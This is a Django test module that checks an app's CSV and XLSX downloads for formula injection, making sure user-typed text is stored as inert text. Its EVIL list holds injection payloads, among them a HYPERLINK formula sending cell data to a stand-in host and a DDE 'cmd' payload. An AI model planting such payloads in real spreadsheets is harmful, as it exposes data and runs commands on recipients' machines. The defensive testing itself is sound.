"""No download hands a formula to a spreadsheet (v5.0.0-1.3.3; the L3 requirement 1.2.10, CSV and
formula injection, is met too).

The test walks every URL pattern ending in .csv or .xlsx: each must be listed in `DOWNLOADS`
(who fetches it, with which arguments), so a new download fails here until it is checked. Text
people typed (comments, actions, contributors' views, a region's name) starts with `=`, `+`,
`-` or `@`; every CSV cell holding it must start with an apostrophe, and every XLSX cell must
be stored as text with the quote-prefix flag (never as a formula).
"""

from __future__ import annotations

import csv
import io

from django.urls import URLPattern, URLResolver, get_resolver, reverse
from django.utils import timezone
from openpyxl import load_workbook

from diagnostic.analytics.models import Publication
from diagnostic.assessments.models import Answer, Response
from diagnostic.audit.services import record
from diagnostic.consolidation.testing import ConsolidationTestCase, make_view
from diagnostic.lib.spreadsheets import neutralise
from diagnostic.organisations.models import Region
from diagnostic.plans.testing import make_action

EVIL = [
    '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1,1)",
    "\t=1+1",
]

# Route name -> (persona, function of the test case giving the URL args).
DOWNLOADS = {
    "analytics:export_csv": ("nina", lambda t: [t.round.pk]),
    "analytics:export_xlsx": ("erin", lambda t: [t.round.pk]),
    "analytics:public_csv": (None, lambda t: [t.round.pk]),
    "analytics:public_xlsx": (None, lambda t: [t.round.pk]),
    "plans:export_csv": ("bob", lambda t: [t.response_a.pk]),
    "plans:export_xlsx": ("bob", lambda t: [t.response_a.pk]),
    "consolidation:response_xlsx": ("bob", lambda t: [t.response_a.pk]),
    "consolidation:contribution_xlsx": ("alice", lambda t: [t.response_a.pk]),
    "audit:trail_csv": ("nina", lambda t: []),
    "practice:library_csv": (None, lambda t: []),
    "support:ranking_xlsx": ("erin", lambda t: []),
    "support:offers_xlsx": ("erin", lambda t: []),
}


def _download_routes() -> set[str]:
    found = set()

    def walk(patterns, prefix, ns):
        for p in patterns:
            if isinstance(p, URLResolver):
                walk(p.url_patterns, prefix + str(p.pattern), p.namespace or ns)
            elif isinstance(p, URLPattern):
                route = prefix + str(p.pattern)
                if route.rstrip("$").endswith((".csv", ".xlsx")):
                    found.add(f"{ns}:{p.name}" if ns else p.name)

    walk(get_resolver().url_patterns, "", None)
    return found


def _starts_like_formula(text: str) -> bool:
    # Written out here rather than imported, so the test does not trust the code it tests.
    return text[:1] in ("=", "+", "-", "@", "\t", "\r", "\n")


class EveryDownloadIsNeutralised(ConsolidationTestCase):
    @classmethod
    def setUpTestData(cls):
        super().setUpTestData()
        # Council B submitted: its comments go to the national export and public figures.
        Answer.objects.bulk_create(
            [Answer(response=cls.response_b, value_code=vc, current_level=3, target_level=4,
                    priority="high", comment=EVIL[i % len(EVIL)], version=1)
             for i, vc in enumerate(cls.codes)]
        )  # fmt: skip
        Response.objects.filter(pk=cls.response_b.pk).update(
            status="submitted", submitted_at=timezone.now()
        )
        # Council A is a draft: its lead's spreadsheet, plan and Alice's own views.
        Answer.objects.bulk_create(
            [Answer(response=cls.response_a, value_code=vc, current_level=2, target_level=4,
                    priority="high", comment=EVIL[i % len(EVIL)], version=1)
             for i, vc in enumerate(cls.codes[:10])]
        )  # fmt: skip
        for i, vc in enumerate(cls.codes[:5]):
            make_view(cls.assignment_a, vc.code, 2, comment=EVIL[i])
        make_action(cls.response_a, EVIL[0], description=EVIL[1], owner=EVIL[3])
        Publication.objects.create(round=cls.round, published_by=cls.erin)
        Region.objects.filter(pk=cls.south_east.pk).update(name="=1+1 South East")
        record("test.note", actor=cls.erin, organisation=cls.council_a, note=EVIL[0])
        # A published case study and a support offer, each titled by someone typing a formula.
        from diagnostic.practice.testing import make_case_study
        from diagnostic.support.models import Invitation as SupportInvitation
        from diagnostic.support.models import Offer

        make_case_study(cls.council_b, cls.framework, title=EVIL[2])
        # Framework text is an administrator's upload: a key area's name can start with "+".
        cls.framework.keyareas.filter(code="EC").update(name=EVIL[1])
        offer = Offer.objects.create(
            round=cls.round, region=cls.north_west, kind="workshop", title=EVIL[3],
            key_area=cls.framework.keyareas.get(code="EC"), starts_on=cls.round.closes_on,
            ends_on=cls.round.closes_on, capacity=3,
        )  # fmt: skip
        SupportInvitation.objects.create(offer=offer, organisation=cls.council_a, status="invited")

    def test_every_download_route_is_listed_here(self):
        self.assertEqual(_download_routes(), set(DOWNLOADS))

    def _fetch(self, name):
        persona, args = DOWNLOADS[name]
        self.client.logout()
        if persona:
            self.client.force_login(getattr(self, persona))
        r = self.client.get(reverse(name, args=args(self)))
        self.assertEqual(r.status_code, 200, name)
        body = b"".join(r.streaming_content) if r.streaming else r.content
        return body

    def test_no_cell_of_any_download_is_a_formula(self):
        for name in sorted(DOWNLOADS):
            with self.subTest(name):
                body = self._fetch(name)
                if name.endswith("csv"):
                    cells = [c for row in csv.reader(io.StringIO(body.decode("utf-8-sig")))
                             for c in row]  # fmt: skip
                    risky = [c for c in cells if _starts_like_formula(c)]
                    self.assertEqual(risky, [], name)
                    shown = [c for c in cells if c[:2] in ("'=", "'+", "'-", "'@", "'\t")]
                else:
                    wb = load_workbook(io.BytesIO(body))
                    shown = []
                    for ws in wb.worksheets:
                        for row in ws.iter_rows():
                            for cell in row:
                                self.assertNotEqual(cell.data_type, "f", (name, cell.coordinate))
                                if isinstance(cell.value, str) and _starts_like_formula(cell.value):
                                    self.assertTrue(
                                        cell.quotePrefix, (name, ws.title, cell.coordinate)
                                    )
                                    shown.append(cell.value)
                # The test's own text reached the file, so it checked something real.
                self.assertTrue(shown, name)

    def test_the_national_xlsx_keeps_the_comment_as_typed_but_as_text(self):
        wb = load_workbook(io.BytesIO(self._fetch("analytics:export_xlsx")))
        comments = [row[-1] for row in wb["Responses"].iter_rows(min_row=2)]
        self.assertEqual(comments[0].value, EVIL[0])
        self.assertEqual(comments[0].data_type, "s")
        self.assertTrue(comments[0].quotePrefix)

    def test_the_national_csv_prefixes_an_apostrophe(self):
        text = self._fetch("analytics:export_csv").decode("utf-8-sig")
        rows = list(csv.DictReader(io.StringIO(text)))
        self.assertEqual(rows[0]["comment"], "'" + EVIL[0])
        self.assertEqual(rows[2]["comment"], "'-2+3")

    def test_the_one_rule(self):
        self.assertEqual(
            [neutralise(v) for v in ["=1", "+1", "-1", "@a", "\t=1", "\r=1", "a=1", "", 5, None]],
            ["'=1", "'+1", "'-1", "'@a", "'\t=1", "'\r=1", "a=1", "", 5, None],
        )

    def test_no_other_module_has_its_own_rule(self):
        """The action plan's own rule was the model; now there is one, in lib/spreadsheets.py."""
        from pathlib import Path

        root = Path(__file__).resolve().parents[2]
        offenders = []
        for path in root.rglob("*.py"):
            if "tests" in path.parts or path.name == "spreadsheets.py":
                continue
            text = path.read_text()
            if 'startswith("=")' in text or 'data_type = "s"' in text:
                offenders.append(str(path.relative_to(root)))
        self.assertEqual(offenders, [])
